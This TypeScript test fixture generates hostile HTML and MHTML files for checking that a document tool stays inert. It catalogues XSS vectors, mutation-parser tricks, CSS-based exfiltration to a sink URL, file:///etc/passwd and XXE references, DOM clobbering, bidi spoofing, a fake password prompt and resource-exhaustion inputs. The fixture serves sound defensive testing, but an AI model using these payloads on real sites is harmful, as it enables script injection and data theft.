import { CANARY, hostile, large, words, type HostileFile } from '../hostile-file.ts';

/** The handlers that pages have been attacked through most. */
const HANDLERS =
  'onload onerror onclick onmouseover onfocus onblur ontoggle onanimationstart ontransitionend onpointerenter onwheel oncopy onpaste ondrag onscroll onbeforeinput onauxclick oncanplay onpageshow onhashchange onmessage'.split(
    ' ',
  );

/** One fragment each, put among the words of a page. `S` is the address that must not be asked. */
const FRAGMENTS: Readonly<Record<string, string>> = {
  script: `<script>${CANARY}</script><script src="S/x.js"></script><script type=module>${CANARY}</script>`,
  'script-variants': `<scr<script>ipt>${CANARY}</script><SCRIPT/x>${CANARY}</SCRIPT><script\n>${CANARY}</script\n>`,
  handlers: HANDLERS.map((handler) => `<img src=x ${handler}="${CANARY}" tabindex=1 autofocus>`).join(''),
  'body-handlers': `<body onload="${CANARY}" onpageshow="${CANARY}" background="S/b.png">`,
  'javascript-links': ['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' &#1;javascript:', 'javascript&colon;']
    .map((scheme) => `<a href="${scheme}${CANARY}">link</a>`)
    .join(' '),
  'other-schemes': `<a href="vbscript:${CANARY}">v</a> <a href="data:text/html,<script>${CANARY}</script>">d</a> <a href="file:///etc/passwd">f</a> <a href="\\\\host\\share">u</a> <a href="smb://host/x">s</a>`,
  'anchored-nowhere': `<a href="javascript:${CANARY}//:/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">x</a>`,
  srcdoc: `<iframe srcdoc="<script>parent.${CANARY}</script>"></iframe><iframe src="javascript:${CANARY}"></iframe><iframe src="S/f"></iframe>`,
  'meta-refresh': `<meta http-equiv=refresh content="0;url=S/refresh"><meta http-equiv=refresh content="0;url=javascript:${CANARY}">`,
  base: `<base href="S/"><a href="x">relative</a><img src="y.png">`,
  forms: `<form action="S/form" id=f><input name=a><button formaction="javascript:${CANARY}">go</button></form><button form=f formaction="S/g">x</button>`,
  svg: `<svg onload="${CANARY}"><script>${CANARY}</script><use href="S/u.svg#x"/><image href="S/i.png"/><animate attributeName=href values="javascript:${CANARY}"/><a xlink:href="javascript:${CANARY}"><text>svg</text></a><foreignObject><iframe src="S/g"></iframe></foreignObject></svg>`,
  'mutation-math': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${CANARY}">`,
  'mutation-svg': `<svg></p><style><a title="</style><img src=x onerror=${CANARY}>">`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${CANARY}>"></noscript>`,
  'raw-text': `<xmp><img src=x onerror=${CANARY}></xmp><textarea></textarea><img src=x onerror=${CANARY}></textarea><title></title><img src=x onerror=${CANARY}>`,
  template: `<template shadowrootmode=open><script>${CANARY}</script><img src="S/t.png" onerror="${CANARY}"></template>`,
  style: `<style>@import "S/a.css"; body{background:url(S/b.png)} p::after{content:attr(title)} a:visited{background:url(S/v)} @font-face{font-family:x;src:url(S/f)} p{font-family:x}</style><p style="position:fixed;inset:0;background:url(S/c)">over everything</p>`,
  'style-exfiltration': `<style>input[value^=a]{background:url(S/a)}</style><input value=abc><link rel=stylesheet href="S/l.css">`,
  ping: `<a href="https://postil.example/" ping="S/ping">ping</a>`,
  hints: `<link rel=dns-prefetch href="//postil.example"><link rel=preconnect href="S"><link rel=prefetch href="S/p"><link rel=preload as=image href="S/q"><link rel=modulepreload href="S/m.js"><link rel=icon href="S/favicon.ico">`,
  images: `<img src="S/1.png" srcset="S/2.png 2x" alt="'\\" onerror=${CANARY}"><picture><source srcset="S/3.png"><img src="file:///etc/passwd"></picture><img src="//postil.example/4.png">`,
  media: `<video src="S/v.mp4" poster="S/p.png" autoplay onloadstart="${CANARY}"><track src="S/t.vtt"></video><audio src="S/a.mp3" autoplay></audio>`,
  embed: `<embed src="S/e.swf"><embed code="javascript:${CANARY}"><object data="S/o"></object><object data="javascript:${CANARY}"></object><applet code=x></applet>`,
  'map-area': `<img usemap="#m" src=x><map name=m><area shape=rect coords="0,0,9,9" href="javascript:${CANARY}"></map>`,
  details: `<details open ontoggle="${CANARY}"><summary>s</summary>more</details>`,
  'custom-elements': `<x-y onclick="${CANARY}">custom</x-y><button is="x-z">is</button><marquee onstart="${CANARY}">m</marquee><portal src="S/p"></portal>`,
  clobbering: `<form id=__proto__ name=getElementById><input name=attributes><input name=parentNode></form><a id=document></a><img name=body><a id=canary></a><form id=importFile></form>`,
  'conditional-comments': `<!--[if gte IE 4]><script>${CANARY}</script><![endif]--><!--><img src=x onerror=${CANARY}>-->`,
  'data-attributes': `<p data-background-iframe="javascript:${CANARY}" data-src="S/d" data-html="<img src=x onerror=${CANARY}>">data</p>`,
  frameset: `</p><frameset onload="${CANARY}"><frame src="S/f"></frameset><iframe sandbox="allow-scripts allow-top-navigation" src="S/g"></iframe>`,
  processing: `<?xml-stylesheet href="javascript:${CANARY}"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  table: `<table background="S/t.png"><tr><td onmouseover="${CANARY}"><img src=x onerror="${CANARY}">cell</table>`,
  bidi: '<p>invoice\u202efdp.exe \u2066isolated\u2069 zero\u200bwidth</p>',
  'fake-dialog': `<dialog open>Enter your password <input type=password></dialog><p contenteditable autofocus onfocus="${CANARY}">type here</p>`,
  cite: `<blockquote cite="S/cite">quoted</blockquote><q cite="javascript:${CANARY}">q</q><ins cite="S/ins">in</ins>`,
};

export const HTML: readonly HostileFile[] = [
  ...Object.entries(FRAGMENTS).map(([name, fragment]) =>
    hostile(
      `html-${name}.html`,
      (sink) =>
        `<!doctype html><html><head><title>html ${name}</title></head><body><p>${words(name)}</p>${fragment.replaceAll(/\bS(?=[/"> ])/g, sink)}<p>The end.</p></body></html>`,
      'opens',
    ),
  ),
  hostile(
    'html-title.html',
    `<title></title><img src=x onerror=${CANARY}><p>${words('a title')}</p>`,
    'opens',
  ),
  hostile(
    'html-title-escaped.html',
    `<title>&lt;img src=x onerror=${CANARY}&gt;</title><p>${words('an escaped title')}</p>`,
    'opens',
  ),
  hostile('html-nothing-but-script.html', `<script>${CANARY}</script>`, 'noText'),
  hostile('html-unfinished-doctype.html', '<!doct', 'noText'),
  hostile(
    'html-polyglot.html',
    `%PDF-1.7\n<html><body><p>${words('a polyglot')}</p><script>${CANARY}</script>`,
    'either',
  ),
  hostile('html-deep.html', `${'<b>'.repeat(20_000)}${words('deep html')}`, 'opens'),
  hostile(
    'html-attributes.html',
    `<p ${Array.from({ length: 5_000 }, (_, n) => `a${n}=x`).join(' ')}>${words('many attributes')}</p>`,
    'opens',
  ),
  hostile('html-long-word.html', `<p>${words('a long word')} ${'x'.repeat(1_000_000)}</p>`, 'opens'),
  hostile(
    'html-utf7.html',
    `<meta charset=utf-7><p>${words('utf-7')} +ADw-script+AD4-${CANARY}+ADw-/script+AD4-</p>`,
    'opens',
  ),
  hostile(
    'archive-hostile.mhtml',
    (sink) =>
      `MIME-Version: 1.0\r\nContent-Location: javascript:${CANARY}\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<title>archive</title><p>${words('an archive')}</p><img src="${sink}/x.png"><script>${CANARY}</script>\r\n--b\r\nContent-Type: image/png\r\nContent-Location: file:///etc/passwd\r\n\r\nx\r\n--b--\r\n`,
    'opens',
  ),
  hostile('archive-without-parts.mhtml', 'MIME-Version: 1.0\r\n\r\nnothing', 'notOfItsKind'),
  hostile(
    'archive-nested.mhtml',
    Array.from(
      { length: 500 },
      (_, n) => `Content-Type: multipart/related; boundary="b${n}"\r\n\r\n--b${n}\r\n`,
    ).join(''),
    'notOfItsKind',
  ),
  large(
    hostile(
      'html-100000-attributes.html',
      () => `<p ${Array.from({ length: 100_000 }, (_, n) => `a${n}=x`).join(' ')}>x</p>`,
      'either',
    ),
  ),
  large(hostile('html-very-deep.html', () => `${'<b>'.repeat(1_000_000)}deep`, 'either')),
  large(hostile('html-100-mb.html', () => `<p>${'word '.repeat(20_000_000)}</p>`, 'either')),
];
